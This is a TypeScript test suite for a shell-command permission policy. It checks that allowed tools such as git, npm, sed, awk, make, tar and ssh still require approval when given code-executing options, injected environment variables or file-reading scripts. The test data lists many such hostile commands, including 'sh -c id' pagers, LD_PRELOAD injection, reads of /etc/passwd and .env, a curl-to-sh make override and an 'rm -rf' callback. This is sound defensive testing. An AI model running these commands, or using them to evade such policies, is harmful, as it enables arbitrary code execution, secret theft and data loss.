// Attack class 2: "read-only" commands that execute code. An allow entry covers a command, never its
// risky options, environment assignments or unknown option shapes.
import { before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import type { BashParser } from '../../../src/core/policy/bashGrammar';
import { sedScriptRisk } from '../../../src/core/policy/commands/families/programmableTools';
import { commandPolicy, explain, loadParser, TYPICAL_ALLOW, WORKSPACE } from './commandsFixture';

let parser: BashParser;
before(async () => {
  parser = await loadParser();
});

const ALLOW = [
  ...TYPICAL_ALLOW,
  'ssh',
  'rsync',
  'zip',
  'scp',
  'vim',
  'vi',
  'perl',
  'ruby',
  'php',
  'rg',
  'printf',
  'npx',
  'export',
  'man',
  'more',
];

function decide(command: string) {
  return commandPolicy(parser, { allow: ALLOW }).decide(command, WORKSPACE);
}

/** Not allowed, and one of its parts refuses by `rule`. */
function assertAsksWith(d: ReturnType<typeof decide>, rule: string): void {
  assert.notEqual(d.decision, 'allow', explain(d));
  assert.ok(
    d.parts.some((p) => p.rule === rule),
    `expected a ${rule} part: ${explain(d)}`,
  );
}

/** [command, rule of the asking part]: each is covered by an allow entry yet must ask. */
const RISKY: [command: string, rule: string][] = [
  ['git -c core.pager="sh -c id" log', 'risky-option'],
  ['git -ccore.pager=id log', 'risky-option'],
  ['git --config-env=core.pager=EVIL log', 'risky-option'],
  ['git --exec-path=/tmp/evil log', 'risky-option'],
  ['git --git-dir=/tmp/evil status', 'risky-option'],
  ['git --work-tree=/tmp status', 'risky-option'],
  ['git -p log', 'risky-option'],
  ['git --paginate log', 'risky-option'],
  ['git -C /tmp/other status', 'risky-option'],
  ['git log --ext-diff', 'risky-option'],
  ['git diff --ext-diff HEAD -- src', 'risky-option'],
  ['git diff --ext-d HEAD -- src', 'risky-option'],
  ['git clone -u "sh -c id" https://example.com/r.git', 'risky-option'],
  ['git fetch --upload-pack="sh -c id" origin', 'risky-option'],
  ['git push --receive-pack=/tmp/evil origin main', 'risky-option'],
  ['git rebase -x "make evil" main', 'risky-option'],
  ['git rebase --exec="make evil" main', 'risky-option'],
  ['git grep -O foo -- src', 'risky-option'],
  ['git grep --open-files-in-pager=vim foo -- src', 'risky-option'],
  ['git config core.pager "sh -c id"', 'git-config-write'],
  ["git config alias.st '!sh -c id'", 'git-config-write'],
  ['git clone "ext::sh -c id" dir', 'risky-transport'],
  ['git submodule foreach "rm -rf build"', 'risky-option'],
  ['git difftool HEAD', 'risky-subcommand'],
  ['git filter-branch --tree-filter id HEAD', 'risky-subcommand'],
  ['git apply fix.patch', 'risky-subcommand'],
  ['GIT_PAGER="sh -c id" git log', 'risky-variable'],
  ['GIT_EXTERNAL_DIFF=/tmp/x git diff -- src', 'risky-variable'],
  ['GIT_SSH_COMMAND="sh -c id" git fetch', 'risky-variable'],
  ['GIT_CONFIG_GLOBAL=/tmp/cfg git log', 'risky-variable'],
  ['GIT_EXEC_PATH=/tmp git log', 'risky-variable'],
  ['PAGER=/tmp/x git log', 'risky-variable'],
  ['EDITOR=/tmp/x git commit', 'risky-variable'],
  ['VISUAL=/tmp/x git commit', 'risky-variable'],
  ['LD_PRELOAD=/tmp/evil.so git status', 'risky-variable'],
  ['LD_LIBRARY_PATH=/tmp git status', 'risky-variable'],
  ['DYLD_INSERT_LIBRARIES=/tmp/x.dylib ls', 'risky-variable'],
  ['NODE_OPTIONS=--require=/tmp/x.js npm test', 'risky-variable'],
  ['NODE_PATH=/tmp npm test', 'risky-variable'],
  ['PATH=/tmp/evil:$PATH npm test', 'risky-variable'],
  ['PYTHONPATH=/tmp python3 app.py', 'risky-variable'],
  ['PYTHONSTARTUP=/tmp/x.py python3', 'risky-variable'],
  ['PERL5OPT=-Mevil perl app.pl', 'risky-variable'],
  ['RUBYOPT=-revil ruby app.rb', 'risky-variable'],
  ['BASH_ENV=/tmp/x bash script.sh', 'risky-variable'],
  ['ENV=/tmp/x sh script.sh', 'risky-variable'],
  ['PROMPT_COMMAND=id ls', 'risky-variable'],
  ['IFS=/ ls', 'risky-variable'],
  ['SHELLOPTS=xtrace bash script.sh', 'risky-variable'],
  ['npm_config_script_shell=/tmp/x npm test', 'risky-variable'],
  ['env NODE_OPTIONS=--require=/tmp/x.js npm test', 'risky-variable'],
  ['env -i PATH=/tmp npm test', 'risky-variable'],
  ['FOO=1 npm test', 'env-assignment'],
  ['export PATH=/tmp/evil:$PATH', 'risky-variable'],
  ['export NODE_OPTIONS=--require=/tmp/x.js', 'risky-variable'],
  ['PATH=/tmp/evil', 'risky-variable'],
  ['declare -x LD_PRELOAD=/tmp/x.so', 'declaration-option'],
  ['export -f ls', 'declaration-option'],
  ['npm test --script-shell=/tmp/evil', 'risky-option'],
  ['npm test --script-shell /tmp/evil', 'risky-option'],
  ['npm --userconfig=/tmp/npmrc test', 'risky-option'],
  ['npm test --globalconfig /tmp/npmrc', 'risky-option'],
  ['npm --prefix /tmp/evil test', 'risky-option'],
  ['npm test --node-options=--require=/tmp/x.js', 'risky-option'],
  ['npm exec -c "id"', 'risky-option'],
  ['npm exec --call=id', 'risky-option'],
  ['npx -c "id"', 'risky-option'],
  ['npm test --unheard-of-flag', 'unknown-option'],
  ['awk \'BEGIN{system("id")}\'', 'awk-program'],
  ['awk \'{print | "sh"}\' data.txt', 'awk-program'],
  ['awk \'BEGIN{"id" | getline x}\'', 'awk-program'],
  ['awk \'{print > "/tmp/x"}\' data.txt', 'awk-program'],
  ['awk -f prog.awk data.txt', 'risky-option'],
  ["sed 'e id' data.txt", 'sed-script'],
  ["sed 's/x/id/e' data.txt", 'sed-script'],
  ["sed 'w /tmp/out' data.txt", 'sed-script'],
  ["sed 's/a/b/w /tmp/out' data.txt", 'sed-script'],
  ["sed '1r /etc/passwd' data.txt", 'sed-script'],
  ["sed -e 's/a/b/' -e '1e id' data.txt", 'sed-script'],
  ['sed -f script.sed data.txt', 'script-file'],
  ['find . -exec id \\;', 'find-exec'],
  ['find . -execdir id \\;', 'find-exec'],
  ['find . -ok id \\;', 'find-exec'],
  ['find . -okdir id \\;', 'find-exec'],
  ['find build -delete', 'find-delete'],
  ['find . -fprint out.txt', 'find-write'],
  ['less README.md', 'pager'],
  ['more README.md', 'pager'],
  ['man ls', 'pager'],
  ['vim src/a.ts', 'editor'],
  ['vi src/a.ts', 'editor'],
  ['tar -xf a.tar --to-command="sh -c id"', 'risky-option'],
  ['tar -cf a.tar src --checkpoint=1 --checkpoint-action=exec=id', 'risky-option'],
  ['tar -I "sh -c id" -cf a.tar src', 'risky-option'],
  ['tar --use-compress-program=/tmp/x -cf a.tar src', 'risky-option'],
  ['curl -K /tmp/curlrc https://example.com', 'risky-option'],
  ['rsync -e "sh -c id" src/ dst', 'risky-option'],
  ['rsync --rsync-path="sh -c id" src dst', 'risky-option'],
  ['ssh -o ProxyCommand="sh -c id" host', 'risky-option'],
  ['ssh -oProxyCommand=id host', 'risky-option'],
  ['ssh -o LocalCommand=id -o PermitLocalCommand=yes host', 'risky-option'],
  ['scp -S /tmp/evil a host:b', 'risky-option'],
  ['zip -T -TT "sh -c id" a.zip src/a.ts', 'risky-option'],
  ['python3 -c "import os; os.system(\'id\')"', 'inline-code'],
  ["node -e \"require('child_process').execSync('id')\"", 'inline-code'],
  ['node -p "process.env"', 'inline-code'],
  ['node --require /tmp/x.js app.js', 'preload-code'],
  ['perl -e "system(q{id})"', 'inline-code'],
  ['ruby -e "system(%q{id})"', 'inline-code'],
  ['php -r "system(\'id\');"', 'inline-code'],
  ['sort --compress-program=sh data.txt', 'risky-option'],
  ['sort --compress-prog=sh data.txt', 'risky-option'],
  ['rg --pre=/tmp/x foo src', 'risky-option'],
  ["printf -v PATH '/tmp'", 'risky-option'],
  ["make --eval='x:;id' test", 'risky-option'],
  ['xargs -a list.txt cat', 'xargs-arg-file'],
  ['sha256sum -c SUMS', 'risky-option'],
  ['cat --number-nonblank --frobnicate src/a.ts', 'unknown-option'],
];

describe('risky options and assignments make an allowed command ask', () => {
  for (const [command, rule] of RISKY) {
    test(`\`${command}\` asks (${rule})`, () => assertAsksWith(decide(command), rule));
  }
});

const SAFE: string[] = [
  'git log --oneline -5',
  'git log --graph --decorate --all -n 20',
  'git log -p --follow -- src/a.ts',
  'git diff --stat',
  'git diff --cached --name-only',
  'git diff --no-ext-diff HEAD~1 -- src',
  'git show HEAD --stat',
  'git --no-pager log -1',
  'git status --short --branch',
  'git branch -a',
  'git config --get user.name',
  'npm test',
  'npm test -- --watch --coverage',
  'npm test --silent',
  'npm run build --if-present',
  "awk '{print $1}' data.txt",
  "awk -F, '{s += $2} END {print s}' data.csv",
  "awk '$3 > 100' data.txt",
  "sed -n '1,10p' data.txt",
  "sed 's/foo/bar/g' data.txt",
  "sed -E 's/(a+)b/\\1/; /^#/d' data.txt",
  "sed -i.bak 's/a/b/' data.txt",
  "find . -name '*.ts' -type f -not -path './node_modules/*'",
  'find src -maxdepth 2 -newer package.json',
  'tar -czf out.tgz src',
  'tar -tzf out.tgz',
  'python3 scripts/check.py --verbose',
  'node app.js --port 3000',
  'sort -n -k2 data.txt',
  'rg -n --hidden foo src',
  'ssh -o ConnectTimeout=5 host',
  'make test',
  "printf '%s\\n' hello",
];

describe('the same commands with safe options stay allowed', () => {
  for (const command of SAFE) {
    test(`\`${command}\` is allowed`, () => {
      const d = decide(command);
      assert.equal(d.decision, 'allow', explain(d));
    });
  }
});

describe('sed scripts are parsed, not pattern-matched', () => {
  const harmless = [
    'p',
    '1,5p',
    's/a/b/g',
    's|a|b|2',
    '/^$/d',
    '$!N',
    '1~2d',
    'y/abc/xyz/',
    '/x/,/y/{s/a/b/;p}',
    ':a;N;$!ba;s/\\n/ /g',
    '0,/re/s//x/',
    's/e/w/g',
    '/w/p',
    '1i\\hello',
    'a text with e and w',
    '= ',
    's/a/b/I',
  ];
  for (const script of harmless) {
    test(`\`${script}\` is harmless`, () => assert.equal(sedScriptRisk(script), undefined));
  }
  const risky = [
    'e id',
    '1e id',
    's/x/y/e',
    's/x/y/ge',
    'w out',
    's/x/y/w out',
    'r /etc/passwd',
    'R file',
    'W out',
    '/x/e',
    'v',
    's/a/b',
    'x; e',
    '{e}',
    'q; e id',
  ];
  for (const script of risky) {
    test(`\`${script}\` is refused or unrecognised`, () => assert.notEqual(sedScriptRisk(script), undefined));
  }
});

/**
 * awk programs and gawk options that read, write or run what the allow entry for awk does not cover: a file
 * named through `ARGV`, a redirection whose `print` holds a `;` or `}` in a string, an indirect call, and the
 * options that write a file of gawk's own. [command, rule of the asking part].
 */
const AWK_RISKS: [command: string, rule: string][] = [
  ['awk \'BEGIN{ARGV[1]="/etc/passwd"; ARGC=2} {print}\'', 'awk-program'],
  ['awk \'BEGIN{ARGV[1]=".env"} {print}\' data.txt', 'awk-program'],
  ['awk \'{print ";" > "/tmp/x"}\' data.txt', 'awk-program'],
  ['awk \'{print "}" > "/tmp/x"}\' data.txt', 'awk-program'],
  ['awk \'{print; print "a;b" >> "/tmp/x"}\' data.txt', 'awk-program'],
  ['awk \'{printf("%s;", $0) > "/tmp/x"}\' data.txt', 'awk-program'],
  ['awk \'BEGIN{f="system"; @f("id")}\'', 'awk-program'],
  ['awk \'BEGIN{system\\\n("id")}\'', 'awk-program'],
  ["awk --dump-variables=/tmp/x '{print}' data.txt", 'risky-option'],
  ["awk --dump-var=/tmp/x '{print}' data.txt", 'risky-option'],
  ["awk -d '{print}' data.txt", 'risky-option'],
  ["awk --profile=/tmp/x '{print}' data.txt", 'risky-option'],
  ["awk -p/tmp/x '{print}' data.txt", 'risky-option'],
  ["awk -o/tmp/x '{print}' data.txt", 'risky-option'],
  ["awk --pretty-print=/tmp/x '{print}' data.txt", 'risky-option'],
  ["awk --debug '{print}' data.txt", 'risky-option'],
  ["awk -D '{print}' data.txt", 'risky-option'],
];

describe('awk programs and gawk options that reach files or commands ask', () => {
  for (const [command, rule] of AWK_RISKS) {
    test(`\`${command}\` asks (${rule})`, () => {
      const d = decide(command);
      assert.equal(d.decision, 'ask', explain(d));
      assert.ok(
        d.parts.some((p) => p.decision === 'ask' && p.rule === rule),
        explain(d),
      );
    });
  }
});

const AWK_SAFE: string[] = [
  "awk 'NR > 1 {print $2}' data.txt",
  "awk '{ if ($1 > max) max = $1 } END { print max }' data.txt",
  "awk -v n=3 '{print $n}' data.txt",
  "awk '{print}' FS=, data.csv",
  'awk \'{print "a;b"}\' data.txt',
  "awk '/x/ { exit } END { }' data.txt",
];

describe('awk programs that only print stay allowed', () => {
  for (const command of AWK_SAFE) {
    test(`\`${command}\` is allowed`, () => {
      const d = decide(command);
      assert.equal(d.decision, 'allow', explain(d));
    });
  }
});

/**
 * `python3 -m MOD` runs an installed module by name, not a script file the read policy judged: `pip install`
 * fetches and runs packages, `http.server` serves the workspace. An entry for the interpreter does not cover it;
 * one naming the module (`python3 -m pytest`) does.
 */
function decideModules(command: string) {
  return commandPolicy(parser, { allow: [...ALLOW, 'python3 -m pytest'] }).decide(command, WORKSPACE);
}

const MODULES_NOT_NAMED: string[] = [
  'python3 -m pip install requests',
  'python3 -m http.server 8000',
  'python3 -mhttp.server',
  'python3 -I -m pip list',
  'python3 -m venv /tmp/env',
  'python3 -m',
];

describe('an interpreter running a module by name asks unless an entry names the module', () => {
  for (const command of MODULES_NOT_NAMED) {
    test(`\`${command}\` asks`, () => {
      const d = decideModules(command);
      assert.equal(d.decision, 'ask', explain(d));
    });
  }
  for (const command of ['python3 -m pytest', 'python3 -m pytest -q tests', 'python3 scripts/check.py']) {
    test(`\`${command}\` is allowed`, () => {
      const d = decideModules(command);
      assert.equal(d.decision, 'allow', explain(d));
    });
  }
});

/**
 * An allow entry for make covers running the workspace's make file, not recipes changed from the command line:
 * a variable override (`SHELL=/tmp/x`, `CC='curl x | sh'`) or `-E` (short for `--eval`) runs other programs, and
 * `-I` outside the workspace reads make files from there.
 */
const MAKE_RISKS: [command: string, rule: string][] = [
  ['make SHELL=/tmp/x', 'make-variable'],
  ["make CC='curl -s x.sh | sh'", 'make-variable'],
  ['make test MAKEFLAGS=--eval=x', 'make-variable'],
  ["make 'OUT!=id'", 'make-variable'],
  ['make X:=1 all', 'make-variable'],
  ["make -E 'all:;id'", 'risky-option'],
  ['make -I /tmp', 'read-outside-workspace'],
  ['make --include-dir=/tmp test', 'read-outside-workspace'],
];

describe('make with recipes changed from the command line asks', () => {
  for (const [command, rule] of MAKE_RISKS) {
    test(`\`${command}\` asks (${rule})`, () => {
      const d = decide(command);
      assert.equal(d.decision, 'ask', explain(d));
      assert.ok(
        d.parts.some((p) => p.rule === rule),
        explain(d),
      );
    });
  }
  for (const command of ['make', 'make test', 'make -j4 build test', 'make -n', 'make -k -s lint']) {
    test(`\`${command}\` is allowed`, () => {
      const d = decide(command);
      assert.equal(d.decision, 'allow', explain(d));
    });
  }
});

/**
 * A variable is assigned without `NAME=` too: by `read`, `mapfile`, `wait -p`, `let`, a `for`/`select` loop, a
 * `${NAME:=…}` expansion and a `{NAME}>file` redirection. PATH, IFS, CDPATH or GLOBIGNORE (which makes `*`
 * match hidden files such as `.env`) set that way is as risky as `PATH=…`.
 */
describe('variables assigned without `NAME=` are judged like assignments', () => {
  const allow = [...ALLOW, 'read', 'mapfile', 'readarray', 'let', 'echo', 'true'];
  const decideAssigning = (command: string) => commandPolicy(parser, { allow }).decide(command, WORKSPACE);
  const risky: [command: string, rule: string][] = [
    ['read PATH < list.txt', 'risky-variable'],
    ['read -r -a IFS <<< x', 'risky-variable'],
    ['read -raPATH <<< x', 'risky-variable'],
    ['read "$name" < list.txt', 'risky-variable'],
    ['mapfile -t CDPATH < list.txt', 'risky-variable'],
    ['readarray GLOBIGNORE < list.txt', 'risky-variable'],
    ['mapfile -C "rm -rf src" -c 1 lines < list.txt', 'shell-code'],
    ['true & wait -n -p GLOBIGNORE; cat src/*.ts', 'risky-variable'],
    ['let GLOBIGNORE=1; cat src/*.ts', 'risky-variable'],
    ['let PATH+=1', 'risky-variable'],
    ['for GLOBIGNORE in x; do cat src/*.ts; done', 'risky-variable'],
    ['select IFS in a b; do break; done', 'risky-variable'],
    [': ${GLOBIGNORE:=x}; cat src/*.ts', 'risky-variable'],
    ['echo "${CDPATH=/tmp}"; cd lib', 'risky-variable'],
    ['echo x {GLOBIGNORE}>/dev/null; cat src/*.ts', 'risky-variable'],
    ['true {IFS}>&-', 'risky-variable'],
  ];
  for (const [command, rule] of risky)
    test(`\`${command}\` asks (${rule})`, () => assertAsksWith(decideAssigning(command), rule));

  const plain = [
    'read -r line < list.txt',
    'read -p "Name: " -t 5 name',
    'mapfile -t lines < list.txt',
    'wait',
    'wait -n',
    'let count=1',
    'for f in src/*.ts; do echo "$f"; done',
    ': ${name:=default}',
    'echo "${name:-default}"',
  ];
  for (const command of plain)
    test(`\`${command}\` is allowed`, () => {
      const d = decideAssigning(command);
      assert.equal(d.decision, 'allow', explain(d));
    });
});
